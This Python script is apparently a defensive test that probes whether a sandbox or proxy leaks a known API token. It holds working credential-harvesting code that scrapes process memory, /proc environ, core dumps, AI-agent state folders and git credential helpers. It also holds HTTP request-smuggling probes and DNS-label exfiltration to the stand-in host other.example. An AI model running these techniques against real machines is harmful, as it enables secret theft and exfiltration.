#!/usr/bin/env python3
"""A hostile program that looks for a credential: credential_hunter.py SHA256 SHA256_OF_LOWER_CASE

It knows the value only by its digest, so that it brings nothing in. Each place is a function that gives what can be read there; the last
line of its output is JSON, {place: true | false | "why it could not be read"}. Runs in a pod, or in namespaces that the test made.
"""

import base64
import glob
import gzip
import hashlib
import json
import os
import pathlib
import re
import resource
import socket
import ssl
import subprocess
import sys
import time
import zlib

VARIABLE = "API_TOKEN"
LENGTH = 36
SHOWN = os.environ.get(VARIABLE, "")
HOME = pathlib.Path(os.environ["HOME"])
HERE = pathlib.Path.cwd()
FILE_BYTES = 8 << 20


def forms(data):
    """Tokens that the bytes hold, in whatever form."""
    for match in re.finditer(rb"ghp_[0-9A-Za-z]{%d}" % LENGTH, data, re.I):
        yield match.group()
    for match in re.finditer(rb"[0-9A-Za-z]{%d}_phg" % LENGTH, data, re.I):
        yield match.group()[::-1]
    for match in re.finditer(rb"(?:[0-9a-f]{2}){%d,}" % (LENGTH + 4), data, re.I):
        yield from re.findall(rb"ghp_[0-9A-Za-z]{%d}" % LENGTH, bytes.fromhex(match.group().decode()))
    for match in re.finditer(rb"[0-9A-Za-z+/_-]{50,}={0,2}", data):
        for skip in range(4):
            text = match.group()[skip:].rstrip(b"=").replace(b"-", b"+").replace(b"_", b"/")
            decoded = base64.b64decode(text[:len(text) // 4 * 4] or b"", validate=False)
            yield from re.findall(rb"ghp_[0-9A-Za-z]{%d}" % LENGTH, decoded)


def holds(data, digests):
    return any(hashlib.sha256(one).hexdigest() in digests or hashlib.sha256(one.lower()).hexdigest() in digests for one in forms(data))


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(FILE_BYTES)
    except OSError:
        return b""


def tree(top):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not os.path.islink(path):
                yield read(path)


def pids():
    return [name for name in os.listdir("/proc") if name.isdigit()]


def memory(pid):
    for line in read(f"/proc/{pid}/maps").decode().splitlines():
        first, last = (int(text, 16) for text in line.split()[0].split("-"))
        if "r" not in line.split()[1] or last - first > 64 << 20 or "[v" in line:
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb") as file:
                file.seek(first)
                yield file.read(last - first)
        except OSError:
            pass


# ---- what a careless program left behind

def be_careless():
    pathlib.Path(HOME / ".bash_history").write_text(f"curl -H 'Authorization: Bearer {SHOWN}' https://api.example/\n")
    pathlib.Path(HOME / ".netrc").write_text(f"machine api.example login t password {SHOWN}\n")
    pathlib.Path(HOME / ".git-credentials").write_text(f"https://t:{SHOWN}@api.example\n")
    pathlib.Path(HOME / ".config/agent").mkdir(parents=True, exist_ok=True)
    pathlib.Path(HOME / ".config/agent/state.json").write_text(json.dumps({"key": SHOWN}))
    for path in ("/tmp/careless", "/dev/shm/careless", HERE / "careless.txt"):
        pathlib.Path(path).write_text(SHOWN)
    subprocess.run(["git", "config", "--global", "http.extraHeader", f"Authorization: Bearer {SHOWN}"], check=False)
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", SHOWN])


# ---- places of the machine

def own_environment():
    yield json.dumps(dict(os.environ)).encode()


def environments_of_processes():
    yield from (read(f"/proc/{pid}/environ") for pid in pids() if pid != "1")


def first_process():
    yield read("/proc/1/environ") + read("/proc/1/cmdline") + read("/proc/1/auxv")
    yield from memory(1)


def command_lines():
    yield from (read(f"/proc/{pid}/cmdline") for pid in pids())


def memory_of_processes():
    for pid in pids():
        if pid != "1":
            yield from memory(pid)


def open_files():
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        if os.path.isfile(path):
            yield read(path)


def home():
    yield from tree(HOME)


def shell_history():
    yield from (read(path) for path in HOME.glob(".*history"))


def state_of_agents():
    for name in (".claude", ".codex", ".config", ".gemini", ".local"):
        yield from tree(HOME / name)


def tokens_of_tools():
    yield from (read(HOME / name) for name in (".netrc", ".npmrc", ".pypirc", ".git-credentials", ".docker/config.json", ".aws/credentials"))


def configuration_of_git():
    yield subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True).stdout


def git_asked():
    yield subprocess.run(["git", "-c", "credential.helper=store", "credential", "fill"], input=b"protocol=https\nhost=api.example\n\n",
                         capture_output=True, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"}).stdout


def temporary_files():
    yield from tree("/tmp")


def shared_memory():
    yield from tree("/dev/shm")


def run_directory():
    yield from tree("/run")


def etc():
    yield from tree("/etc")


def certificates():
    yield from (read(path) for path in {os.environ.get("SSL_CERT_FILE", "/dev/null"), "/etc/ssl/certs/ca-certificates.crt"})
    assert b"PRIVATE KEY" not in read(os.environ.get("SSL_CERT_FILE", "/dev/null"))


def workspace():
    yield from tree(HERE)


def core_dump():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    subprocess.run([sys.executable, "-c", "import os; os.abort()"], cwd="/tmp")
    yield from (read(path) for path in glob.glob("/tmp/core*") + glob.glob("core*"))


def keyrings():
    yield read("/proc/keys") + read("/proc/key-users")


def sockets():
    yield read("/proc/net/unix")
    for line in read("/proc/net/unix").decode().splitlines():
        name = line.split()[-1]
        if not name.startswith(("@", "/")):
            continue
        with socket.socket(socket.AF_UNIX) as asked:
            asked.settimeout(1)
            try:
                asked.connect(name.replace("@", "\0", 1))
                asked.sendall(b'{"cmd":"status"}\n')
                yield asked.recv(65536)
            except OSError:
                pass


def mounts():
    yield read("/proc/self/mountinfo") + read("/proc/self/status")


# ---- the authorised host, asked in ways that make it say what it was told

def https(host, text, more=None):
    context = ssl.create_default_context()
    if (HERE / "root.pem").exists():
        context.load_verify_locations(HERE / "root.pem")
    out = b""
    with socket.create_connection((host, 443), 10) as plain, context.wrap_socket(plain, server_hostname=host) as connection:
        connection.sendall(text.encode())
        try:
            while got := connection.recv(65536):
                out += got
        except (OSError, ssl.SSLError):
            pass
    return out


def request(line, fields="", host="api.example", body="", signed=True):
    key = f"Authorization: Bearer {SHOWN}\r\n" if signed else ""
    return f"{line} HTTP/1.1\r\nHost: {host}\r\n{key}{fields}Connection: close\r\n\r\n{body}"


def plain_text(answer):
    """The body too, out of its chunks and uncompressed."""
    head, _, body = answer.partition(b"\r\n\r\n")
    if b"chunked" in head.lower():
        body = re.sub(rb"\r\n", b"", re.sub(rb"(?:^|\r\n)[0-9a-f]+\r\n", b"", body))
    for open_up in (gzip.decompress, zlib.decompress):
        try:
            body = open_up(body)
        except (OSError, EOFError, zlib.error):
            pass
    return answer + b"\n" + body


def asked(path, fields="", method="GET", **more):
    return plain_text(https("api.example", request(f"{method} /{path}", fields, **more)))


def echo():
    yield asked("echo")


def echo_in_fields():
    yield asked("header")


def echo_in_chunks_and_trailers():
    yield asked("chunks", "TE: trailers\r\n")


def echo_compressed():
    yield asked("gzip", "Accept-Encoding: gzip\r\n") + asked("deflate") + asked("negotiated", "Accept-Encoding: gzip\r\n")


def echo_in_parts():
    parts = [asked("range", f"Range: bytes={i}-{i + 7}\r\n").partition(b"\r\n\r\n")[2].partition(b"\n")[0] for i in range(0, 40, 8)]
    yield b"".join(parts) + b" " + parts[0]


def error_page():
    yield asked("error")


def other_forms():
    yield asked("forms")


def until_the_end():
    yield asked("close")


def trace():
    yield asked("echo", method="TRACE") + asked("echo", "X-HTTP-Method-Override: TRACE\r\n", method="POST")


def posted():
    yield asked("echo", f"Content-Length: {len(SHOWN)}\r\n", method="POST", body=SHOWN)


def trailers_of_a_request():
    yield asked("echo", "Transfer-Encoding: chunked\r\n", method="POST", body=f"3\r\nabc\r\n0\r\nX-T: {SHOWN}\r\n\r\n")


def old_version():
    yield plain_text(https("api.example", f"GET /echo HTTP/1.0\r\nHost: api.example\r\nAuthorization: Bearer {SHOWN}\r\n\r\n"))


def absolute_form():
    yield plain_text(https("api.example", request("GET https://api.example/echo")))


def websocket():
    yield asked("echo", "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n")


def basic():
    pair = base64.b64encode(f"t:{SHOWN}".encode()).decode()
    yield plain_text(https("api.example", request("GET /echo", f"Authorization: Basic {pair}\r\n", signed=False)))


# ---- other hosts, and the proxy itself. What they were told is in the servers' log

def in_a_url():
    yield asked(f"echo?key={SHOWN}", signed=False)


def other_field():
    yield asked("echo", f"X-Mine: {SHOWN}\r\nCookie: k={SHOWN}\r\n", signed=False)


def another_host():
    yield plain_text(https("other.example", request("GET /echo", host="other.example")))


def another_host_behind_the_name():
    yield plain_text(https("api.example", request("GET /echo", host="other.example")))
    yield plain_text(https("api.example", request("GET https://other.example/echo")))


def a_second_request():
    yield plain_text(https("api.example", request("GET /echo").replace("Connection: close\r\n", "") + request("GET /echo", host="other.example")))
    yield asked("echo", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", method="POST", body="0\r\n\r\n" + request("GET /echo", host="other.example"))


def relayed():
    yield plain_text(https("api.example", request("CONNECT other.example:443", host="other.example:443")))


def redirected():
    trusted = ["--cacert", "root.pem"] if "weir" not in os.environ.get("SSL_CERT_FILE", "") else []
    yield subprocess.run(["curl", "-sS", "-m", "9", "-L", "--location-trusted", *trusted, "-H", f"Authorization: Bearer {SHOWN}", "https://api.example/redirect"],
                         capture_output=True).stdout


def without_tls():
    for host in ("api.example", "other.example"):
        yield subprocess.run(["curl", "-sS", "-m", "9", "-H", f"Authorization: Bearer {SHOWN}", f"http://{host}/echo"], capture_output=True).stdout


def proxies():
    for port, text in ((3128, f"GET http://api.example/echo HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {SHOWN}\r\n\r\n"),
                       (3128, "TRACE / HTTP/1.1\r\nHost: x\r\n\r\n"), (3128, "GET /debug/pprof HTTP/1.1\r\nHost: localhost\r\n\r\n"), (1080, "\5\1\2"), (53, "\0\0")):
        try:
            with socket.create_connection(("127.0.0.1", port), 3) as connection:
                connection.settimeout(3)
                connection.sendall(text.encode("latin-1"))
                yield connection.recv(65536)
        except OSError:
            pass


def names():
    for label in (SHOWN[4:40], "token", "env"):
        try:
            socket.getaddrinfo(f"{label}.other.example", 443)
        except OSError as error:
            yield str(error).encode()


MACHINE = (own_environment, environments_of_processes, first_process, command_lines, memory_of_processes, open_files, home, shell_history, state_of_agents,
           tokens_of_tools, configuration_of_git, git_asked, temporary_files, shared_memory, run_directory, etc, certificates, workspace, core_dump, keyrings,
           sockets, mounts)
ANSWERS = (echo, echo_in_fields, echo_in_chunks_and_trailers, echo_compressed, echo_in_parts, error_page, other_forms, until_the_end, trace, posted,
           trailers_of_a_request, old_version, absolute_form, websocket, basic, in_a_url, other_field, another_host, another_host_behind_the_name,
           a_second_request, relayed, redirected, without_tls, proxies, names)


def main():
    digests = set(sys.argv[1:])
    careless = be_careless()
    found = {}
    try:
        time.sleep(0.1)
        for place in (*MACHINE, *ANSWERS):
            try:
                found[place.__name__] = any(holds(data, digests) for data in place())
            except Exception as error:  # a place that cannot be read is none
                found[place.__name__] = f"{type(error).__name__}: {error}"
    finally:
        careless.kill()
    print(json.dumps(found))


if __name__ == "__main__":
    main()
